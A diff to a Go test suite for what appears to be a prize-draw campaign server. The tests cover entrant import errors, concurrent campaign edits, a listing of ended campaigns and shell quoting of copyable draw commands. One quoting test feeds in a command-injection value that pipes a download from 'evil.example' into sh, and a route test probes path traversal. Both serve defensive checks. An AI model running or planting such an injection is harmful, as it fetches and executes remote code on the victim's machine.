@@ -7,7 +7,9 @@ import (
 	"net/http"
 	"net/url"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/prizegen/prizegen/pkg/campaign"
 	"github.com/prizegen/prizegen/pkg/draw"
@@ -133,8 +135,9 @@ func checkEntrants(t *testing.T, admin *remote.Promoter) {
 		t.Fatalf("%d, %v", added, err)
 	}
 	_, err = admin.ImportEntrants(ctx, []campaign.Person{{FirstName: "Cy", LastName: "Lee"}, {FirstName: "Di"}})
-	if !errors.Is(err, campaign.ErrInvalid) {
-		t.Errorf("a wrong import: %v", err)
+	var wrong *campaign.ImportError
+	if !errors.As(err, &wrong) || len(wrong.Bad) != 1 || wrong.Bad[1] == nil || !strings.Contains(wrong.Bad[1].Error(), "last_name") {
+		t.Errorf("a wrong import: %+v, %v", wrong, err)
 	}
 	page, err := admin.Entrants(ctx, campaign.EntrantList{Search: "éM"})
 	if err != nil || len(page.Entrants) != 1 || page.Entrants[0].FirstName != "Zoë" {
@@ -291,7 +294,7 @@ func TestEveryPageIsGuarded(t *testing.T) {
 		t.Fatal(err)
 	}
 	for path, status := range map[string]int{
-		"/": 200, "/try": 200, "/try/42": 200, "/c/summer": 200, "/c/summer/winners": 200, "/c/summer/odds": 200, "/c/summer/fairness": 200,
+		"/": 200, "/campaigns": 200, "/try": 200, "/try/42": 200, "/c/summer": 200, "/c/summer/winners": 200, "/c/summer/odds": 200, "/c/summer/fairness": 200,
 		"/c/summer/live": 200, "/d/" + d.ID: 200, "/c/nothing": 404, "/d/summer-0-aaaaaaaaaaaaaaaa": 404, "/static/nothing.css": 404,
 		"/static/..%2fsite.go": 404, "/c/summer/winners?before=x": 422,
 	} {
@@ -312,5 +315,75 @@ func TestEveryPageIsGuarded(t *testing.T) {
 	}
 	if c, err := promoterOf(t, s, token).Campaign(t.Context(), "summer"); err != nil || c.Plays != 1 {
 		t.Errorf("looking at pages has made %d plays, %v", c.Plays-1, err)
+	}
+}
+
+// TestChangesInPart of a campaign: nothing that was asked for is left out silently,
+// and nobody undoes what somebody else changed meanwhile.
+func TestChangesInPart(t *testing.T) {
+	s := start(t, serve.All, keeping(t, storetest.File(t)))
+	admin := promoterOf(t, s, token)
+	ends := time.Date(2099, 1, 2, 3, 4, 5, 0, time.UTC)
+	if _, err := admin.Create(t.Context(), campaign.Plan{Name: "summer", ClosesAt: &ends}); err != nil {
+		t.Fatal(err)
+	}
+	change := func(body string) int {
+		answer, _ := s.do(t, http.MethodPatch, "/v1/campaigns/summer", body, "Authorization", "Bearer "+token)
+		return answer.StatusCode
+	}
+	if status := change(`{"state":"open","closes_at":"2098-01-01T00:00:00Z"}`); status != http.StatusUnprocessableEntity {
+		t.Errorf("opening and changing in one is answered %d", status)
+	}
+	var changing sync.WaitGroup
+	for _, field := range []string{`"title":"Summer!"`, `"max_plays":7`} {
+		changing.Go(func() {
+			status := http.StatusConflict
+			for range 50 {
+				if status = change("{" + field + "}"); status != http.StatusConflict {
+					break
+				}
+			}
+			if status != http.StatusOK {
+				t.Errorf("%s is answered %d", field, status)
+			}
+		})
+	}
+	changing.Wait()
+	c, err := admin.Campaign(t.Context(), "summer")
+	if err != nil || c.State != campaign.Draft || c.Title != "Summer!" || c.MaxPlays != 7 || !c.ClosesAt.Equal(ends) {
+		t.Errorf("%+v, %v", c, err)
+	}
+	if status := change(`{"state":"open"}`); status != http.StatusOK {
+		t.Errorf("opening is answered %d", status)
+	}
+}
+
+// TestEndedCampaignsAreFound by whoever wants to check them.
+func TestEndedCampaignsAreFound(t *testing.T) {
+	s := start(t, serve.All, keeping(t, storetest.File(t)))
+	openCampaign(t, s, "summer")
+	if _, err := promoterOf(t, s, token).Close(t.Context(), "summer"); err != nil {
+		t.Fatal(err)
+	}
+	if _, text := s.do(t, http.MethodGet, "/", ""); !strings.Contains(text, `href="/campaigns"`) {
+		t.Errorf("the first page does not lead to them:\n%s", text)
+	}
+	answer, text := s.do(t, http.MethodGet, "/campaigns", "")
+	if answer.StatusCode != http.StatusOK || !strings.Contains(text, `href="/c/summer/winners"`) || !strings.Contains(text, `href="/c/summer/fairness"`) {
+		t.Errorf("%s\n%s", answer.Status, text)
+	}
+}
+
+// TestCommandsAreSafeToCopy: a seed that somebody else chose stays a seed.
+func TestCommandsAreSafeToCopy(t *testing.T) {
+	s := start(t, serve.All)
+	for path, want := range map[string]string{
+		"/try/42":                          "prizegen draw --seed 42<",
+		"/try/42;curl%20evil.example%7Csh": "prizegen draw --seed &#39;42;curl evil.example|sh&#39;<",
+		"/try/it's":                        `prizegen draw --seed &#39;it&#39;\&#39;&#39;s&#39;<`,
+	} {
+		if _, text := s.do(t, http.MethodGet, path, ""); !strings.Contains(text, want) {
+			t.Errorf("%s has not %q:\n%s", path, want, text)
+		}
 	}
 }
